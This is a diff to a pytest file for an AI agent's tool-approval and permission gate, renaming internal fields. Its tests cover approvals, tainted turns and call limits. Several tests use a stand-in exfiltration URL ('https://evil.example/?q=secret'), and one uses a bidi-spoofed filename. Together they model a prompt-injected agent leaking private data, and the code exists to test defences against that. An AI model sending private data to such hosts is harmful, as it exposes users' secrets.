@@ -115,10 +115,14 @@ class NoScope:
 class Gate:
     def __init__(self) -> None:
         self.registry = demo_registry()
-        self.book, self.desk = PlainBook(), PlainDesk()
-        self.book.now(permitted=frozenset(self.registry.tools))
+        self.call_log, self.approvals = PlainBook(), PlainDesk()
+        self.call_log.now(permitted=frozenset(self.registry.tools))
         self.executor = Executor(
-            registry=self.registry, book=self.book, desk=self.desk, scope=NoScope(), ticks_s=lambda: 0.0
+            registry=self.registry,
+            call_log=self.call_log,
+            approvals=self.approvals,
+            scope=NoScope(),
+            ticks_s=lambda: 0.0,
         )
 
     async def run(self, name: str, answer: Answer | None = None, wire_id: str = "w1", **arguments: Any) -> Performed:
@@ -136,11 +140,11 @@ def gate() -> Gate:
 async def test_a_permitted_call_runs_whether_or_not_its_schema_was_sent(gate: Gate) -> None:
     done = await gate.run("demo_write", text="milk")
     assert (done.result.text, done.result.is_error, done.found) == ("Wrote milk.", False, ("demo_write",))
-    assert next(iter(gate.book.endings.values())).undo is not None
+    assert next(iter(gate.call_log.endings.values())).undo is not None
 
 
 async def test_a_forbidden_tool_answers_exactly_as_an_unknown_one(gate: Gate) -> None:
-    gate.book.now(permitted=frozenset())
+    gate.call_log.now(permitted=frozenset())
     forbidden = await gate.run("demo_write", text="milk")
     unknown = await gate.run("demo_wrote", wire_id="w2", text="milk")
     assert forbidden.result.text.replace("demo_write", "X") == unknown.result.text.replace("demo_wrote", "X")
@@ -153,7 +157,7 @@ async def test_a_near_name_gets_one_suggestion(gate: Gate) -> None:
 
 
 async def test_an_admin_tool_does_not_exist_for_a_member_even_if_the_role_lists_it(gate: Gate) -> None:
-    gate.book.now(user=MEMBER)
+    gate.call_log.now(user=MEMBER)
     done = await gate.run("demo_shell", answer="allowed", command="id")
     assert done.result.text == "There is no tool named 'demo_shell' here."
     assert DONE == []
@@ -190,8 +194,8 @@ async def test_a_high_risk_call_runs_only_after_a_yes_and_the_model_reads_why_no
     done = await gate.run("demo_shell", answer=answer, command="id")
     assert ran == DONE
     assert (done.result.text, done.result.is_error) == (words, answer != "allowed")
-    assert next(iter(gate.desk.pleas.values())).detail == "id"
-    assert [ending.state for ending in gate.book.endings.values()] == ["ok" if answer == "allowed" else "refused"]
+    assert next(iter(gate.approvals.pleas.values())).detail == "id"
+    assert [ending.state for ending in gate.call_log.endings.values()] == ["ok" if answer == "allowed" else "refused"]
 
 
 async def test_an_approval_is_used_up_by_one_run(gate: Gate) -> None:
@@ -208,7 +212,7 @@ async def test_a_call_whose_result_was_lost_is_not_run_again_on_the_same_yes(gat
     call = ToolCall(id="w", name="demo_shell", arguments='{"command":"id"}')
     decision = await gate.executor.decide(TURN, 1, call)
     await gate.executor.perform(TURN, 1, call, decision, "allowed")
-    gate.book.endings.clear()
+    gate.call_log.endings.clear()
     again = await gate.executor.perform(TURN, 1, call, decision, "allowed")
     assert (again.result.text, again.result.is_error) == (UNKNOWN, True)
     assert DONE == ["id"]
@@ -226,7 +230,7 @@ async def test_the_bytes_run_are_the_bytes_approved(gate: Gate) -> None:
 async def test_rights_taken_away_between_decision_and_act_stop_the_call(gate: Gate) -> None:
     call = ToolCall(id="w", name="demo_write", arguments='{"text":"milk"}')
     decision = await gate.executor.decide(TURN, 1, call)
-    gate.book.now(permitted=frozenset())
+    gate.call_log.now(permitted=frozenset())
     done = await gate.executor.perform(TURN, 1, call, decision, None)
     assert done.result.is_error
     assert DONE == []
@@ -235,7 +239,7 @@ async def test_rights_taken_away_between_decision_and_act_stop_the_call(gate: Ga
 async def test_an_interrupted_write_is_not_tried_again_but_told(gate: Gate) -> None:
     call = ToolCall(id="w", name="demo_write", arguments='{"text":"milk"}')
     decision = await gate.executor.decide(TURN, 1, call)
-    gate.book.intents[decision.call_id] = "intended"
+    gate.call_log.intents[decision.call_id] = "intended"
     done = await gate.executor.perform(TURN, 1, call, decision, None)
     assert done.result.text == UNKNOWN
     assert DONE == []
@@ -243,9 +247,9 @@ async def test_an_interrupted_write_is_not_tried_again_but_told(gate: Gate) -> N
 
 async def test_medium_risk_asks_only_when_the_turn_is_tainted(gate: Gate) -> None:
     await gate.run("demo_fetch", url="https://example.org/a")
-    gate.book.now(is_tainted=True, taint_source="what web_read brought")
+    gate.call_log.now(is_tainted=True, taint_source="what web_read brought")
     await gate.run("demo_fetch", wire_id="w2", url="https://example.org/b")
-    assert [plea.why for plea in gate.desk.pleas.values()] == ["because this turn read what web_read brought"]
+    assert [plea.why for plea in gate.approvals.pleas.values()] == ["because this turn read what web_read brought"]
 
 
 @pytest.mark.parametrize(
@@ -256,7 +260,7 @@ async def test_medium_risk_asks_only_when_the_turn_is_tainted(gate: Gate) -> Non
 async def test_private_data_does_not_leave_on_a_strangers_word(
     gate: Gate, hosts: frozenset[str], is_refused: bool
 ) -> None:
-    gate.book.now(is_tainted=True, has_read_private=True, typed_hosts=hosts)
+    gate.call_log.now(is_tainted=True, has_read_private=True, typed_hosts=hosts)
     done = await gate.run("demo_fetch", answer="allowed", url="https://evil.example/?q=secret")
     assert done.result.is_error == is_refused
 
@@ -275,7 +279,7 @@ async def test_private_data_does_not_leave_on_a_strangers_word(
 )
 async def test_private_mail_goes_only_to_addresses_that_the_user_typed(gate: Gate, to: str, is_refused: bool) -> None:
     typed = frozenset({"ben@example.org", "ann@example.org", "example.org"})
-    gate.book.now(is_tainted=True, has_read_private=True, typed_hosts=typed)
+    gate.call_log.now(is_tainted=True, has_read_private=True, typed_hosts=typed)
     done = await gate.run("demo_mail", answer="allowed", to=to)
     assert done.result.is_error == is_refused
     assert len(DONE) == 1 - is_refused
@@ -283,7 +287,7 @@ async def test_private_mail_goes_only_to_addresses_that_the_user_typed(gate: Gat
 
 async def test_the_card_says_to_whom_a_mail_goes(gate: Gate) -> None:
     await gate.run("demo_mail", to="Ben@Example.org")
-    assert [plea.destination for plea in gate.desk.pleas.values()] == ["ben@example.org"]
+    assert [plea.destination for plea in gate.approvals.pleas.values()] == ["ben@example.org"]
 
 
 @pytest.mark.parametrize(("device", "asked", "ran"), [("lamp", [], ["lamp"]), ("lock", ["high"], [])])
@@ -291,7 +295,7 @@ async def test_the_arguments_of_a_call_can_raise_its_risk(
     gate: Gate, device: str, asked: list[str], ran: list[str]
 ) -> None:
     await gate.run("demo_switch", device=device)
-    assert [plea.risk for plea in gate.desk.pleas.values()] == asked
+    assert [plea.risk for plea in gate.approvals.pleas.values()] == asked
     assert ran == DONE
 
 
@@ -301,8 +305,8 @@ async def test_a_refusal_that_quotes_words_from_outside_is_marked(gate: Gate) ->
 
 
 async def test_no_grant_covers_the_refused_case(gate: Gate) -> None:
-    gate.desk.grants.add(("demo_fetch", "evil.example"))
-    gate.book.now(is_tainted=True, has_read_private=True)
+    gate.approvals.grants.add(("demo_fetch", "evil.example"))
+    gate.call_log.now(is_tainted=True, has_read_private=True)
     done = await gate.run("demo_fetch", url="https://evil.example/")
     assert done.result.text.startswith("Refused")
 
@@ -319,16 +323,16 @@ async def test_a_long_result_goes_to_a_file_with_a_preview(gate: Gate) -> None:
     done = await gate.run("demo_long")
     assert len(done.result.text) < 4_000
     assert "file_read path='results/x.txt'" in done.result.text
-    assert len(next(iter(gate.book.spilled.values()))) == 20_000
+    assert len(next(iter(gate.call_log.spilled.values()))) == 20_000
 
 
 async def test_the_card_shows_invisible_and_bidi_characters(gate: Gate) -> None:
     await gate.run("demo_shell", command="echo \u202egpj.exe\u200b")
-    assert next(iter(gate.desk.pleas.values())).detail == "echo ⟨U+202E⟩gpj.exe⟨U+200B⟩"
+    assert next(iter(gate.approvals.pleas.values())).detail == "echo ⟨U+202E⟩gpj.exe⟨U+200B⟩"
 
 
 async def test_the_third_identical_call_is_refused(gate: Gate) -> None:
-    gate.book.standing_now = replace(
+    gate.call_log.standing_now = replace(
         STANDING,
         permitted=frozenset(gate.registry.tools),
         same_calls={'demo_write {"text":"milk","times":1}': 2},
@@ -339,9 +343,9 @@ async def test_the_third_identical_call_is_refused(gate: Gate) -> None:
 
 
 async def test_a_recipe_that_counts_calls_refuses_the_one_too_many(gate: Gate) -> None:
-    gate.book.now(permitted=frozenset(gate.registry.tools), calls_left=1)
+    gate.call_log.now(permitted=frozenset(gate.registry.tools), calls_left=1)
     await gate.run("demo_write", text="milk")
-    gate.book.now(calls_left=0)
+    gate.call_log.now(calls_left=0)
     done = await gate.run("demo_write", text="eggs", wire_id="w2")
     assert "allows no further call" in done.result.text
     assert DONE == ["milk"]
